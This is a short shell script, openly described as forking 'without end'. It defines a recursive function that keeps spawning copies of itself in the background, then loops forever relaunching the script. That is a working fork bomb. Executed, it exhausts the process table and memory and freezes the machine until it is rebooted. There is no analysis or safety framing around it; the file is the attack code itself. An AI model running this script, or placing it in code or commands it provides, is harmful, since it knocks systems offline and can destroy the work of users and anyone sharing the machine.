#!/bin/sh
# Forks without end.
bomb() { bomb | bomb & }
bomb
wait
while :; do sh "$0" & done
